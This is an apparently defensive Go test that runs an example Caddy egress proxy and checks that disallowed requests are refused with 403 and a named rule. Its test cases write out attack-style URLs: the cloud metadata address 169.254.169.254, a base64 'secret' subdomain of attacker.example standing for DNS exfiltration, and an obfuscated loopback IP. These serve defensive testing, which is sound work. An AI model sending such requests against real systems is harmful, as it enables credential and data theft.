package examples

import (
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/openclaw-secure-stack/securestack/internal/testbin"
	"github.com/openclaw-secure-stack/securestack/internal/testport"
)

// TestEgressProxyExample runs examples/egress-proxy/Caddyfile with the real
// bin/caddy (on another port, with its files in a temporary directory) and
// checks the refusals the README's "Try it" lines promise. None of them needs
// the network: each is refused before any DNS query or connection.
func TestEgressProxyExample(t *testing.T) {
	if testing.Short() {
		t.Skip("starts bin/caddy; skipped with -short")
	}
	b, err := os.ReadFile("egress-proxy/Caddyfile")
	if err != nil {
		t.Fatal(err)
	}
	addr := testport.Free(t)
	_, port, _ := net.SplitHostPort(addr)
	dir := t.TempDir()
	allowlist, _ := filepath.Abs("coredns/allowlist.txt")
	conf := strings.NewReplacer(
		"http://:3128", "http://:"+port,
		"../coredns/allowlist.txt", allowlist,
		"egress-audit.jsonl", filepath.Join(dir, "egress-audit.jsonl"),
		"key_file audit.key", "key_file "+filepath.Join(dir, "audit.key"),
	).Replace(string(b))
	// The key the README's command makes: 32 random bytes, hex, owner-only.
	if err := os.WriteFile(filepath.Join(dir, "audit.key"), []byte(strings.Repeat("5e", 32)+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if conf == string(b) || !strings.Contains(conf, ":"+port) || !strings.Contains(conf, "key_file "+filepath.Join(dir, "audit.key")) {
		t.Fatal("the example Caddyfile no longer has the lines this test rewrites")
	}
	if err := os.WriteFile(filepath.Join(dir, "Caddyfile"), []byte(conf), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(testbin.Path(t, "caddy"), "run", "--adapter", "caddyfile", "--config", filepath.Join(dir, "Caddyfile"))
	cmd.Env = append(os.Environ(), "XDG_DATA_HOME="+dir, "XDG_CONFIG_HOME="+dir)
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		syscall.Kill(-cmd.Process.Pid, syscall.SIGTERM)
		cmd.Wait()
		if t.Failed() {
			t.Logf("caddy output:\n%s", out.String())
		}
	})
	deadline := time.Now().Add(60 * time.Second)
	for {
		res, err := http.Get("http://" + addr + "/health")
		if err == nil {
			res.Body.Close()
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("the example proxy did not start: %v", err)
		}
		time.Sleep(50 * time.Millisecond)
	}
	u, _ := url.Parse("http://" + addr)
	cl := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(u)}, Timeout: 20 * time.Second}
	for _, tc := range []struct{ url, rule string }{
		{"http://169.254.169.254/latest/meta-data/", "ip_not_allowed"},
		{"http://c2VjcmV0.attacker.example/", "name_not_allowed"},
		{"http://2130706433/", "ip_noncanonical"},
		{"https://api.openai.com:8443/", "port_not_allowed"},
	} {
		res, err := cl.Get(tc.url)
		if err != nil {
			if tc.rule == "port_not_allowed" && strings.Contains(err.Error(), "Forbidden") {
				continue // the CONNECT was refused with 403, as promised
			}
			t.Errorf("GET %s: %v", tc.url, err)
			continue
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode != 403 || res.Header.Get("X-Egress-Rule") != tc.rule {
			t.Errorf("GET %s through the example: %d %q, want 403 %q", tc.url, res.StatusCode, res.Header.Get("X-Egress-Rule"), tc.rule)
		}
	}
}
